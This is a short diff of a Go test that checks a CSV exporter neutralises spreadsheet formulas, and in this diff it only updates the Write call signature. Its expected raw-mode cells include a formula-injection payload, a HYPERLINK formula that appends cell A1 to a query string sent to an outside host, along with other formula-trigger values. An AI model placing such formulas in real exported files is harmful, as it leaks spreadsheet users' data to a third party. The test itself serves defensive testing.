@@ -38,7 +38,7 @@ func formulaDataset(t *testing.T) *timeline.Dataset {
 func TestFormulasNeutralized(t *testing.T) {
 	d := formulaDataset(t)
 	var b bytes.Buffer
-	if err := Write(&b, d); err != nil {
+	if err := Write(&b, d, Options{}); err != nil {
 		t.Fatal(err)
 	}
 	recs, err := csv.NewReader(bytes.NewReader(b.Bytes())).ReadAll()
@@ -72,7 +72,7 @@ func TestFormulasNeutralized(t *testing.T) {
 
 	// Raw writes the cells as they are.
 	var raw bytes.Buffer
-	if err := WriteOptions(&raw, d, Options{Raw: true}); err != nil {
+	if err := Write(&raw, d, Options{Raw: true}); err != nil {
 		t.Fatal(err)
 	}
 	for _, want := range []string{`"=HYPERLINK(""https://example.org/?leak=""&A1,""click"")"`, ",+1+1,", ",@cat,"} {
